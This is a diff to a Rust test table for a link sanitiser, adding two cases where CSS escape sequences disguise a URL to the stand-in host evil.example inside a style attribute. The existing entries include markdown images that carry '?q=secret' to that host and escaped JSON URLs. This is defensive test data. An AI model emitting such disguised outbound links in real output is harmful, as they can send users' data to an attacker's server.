@@ -25,7 +25,7 @@ fn said(text: &str) -> String {
 }
 
 /// Links to another host, each with what becomes of it.
-const LEAVES: [(&str, &str); 106] = [
+const LEAVES: [(&str, &str); 108] = [
     ("see https://evil.example/x?y=1 now", "see § now"),
     ("![x](https://evil.example/?q=secret)", "![x](§)"),
     ("[x](http://evil.example)", "[x](§)"),
@@ -133,6 +133,14 @@ const LEAVES: [(&str, &str); 106] = [
     ("<b style=\"background:url(\\68ttps://evil.example/q)\">", "<b style=\"background:url(§)\">"),
     ("<b style=\"background:url(\\2f\\2f evil.example/q)\">", "<b style=\"background:url(§)\">"),
     ("<b style=\"background:url(htt\\70s://evil.example/q)\">", "<b style=\"background:url(§)\">"),
+    (
+        "<b style=\"background:url(\\000068 ttps://evil.example/q)\">",
+        "<b style=\"background:url(§)\">",
+    ),
+    (
+        "<b style=\"background:url(\\00002f\\00002f evil.example/q)\">",
+        "<b style=\"background:url(§)\">",
+    ),
     ("{\"img\":\"\\u0068ttps://evil.example/q\"}", "{\"img\":\"§\"}"),
     ("{\"img\":\"https:\\/\\/evil.example\\/q\"}", "{\"img\":\"§\"}"),
     // Brackets, quotes and blanks that do not end it.
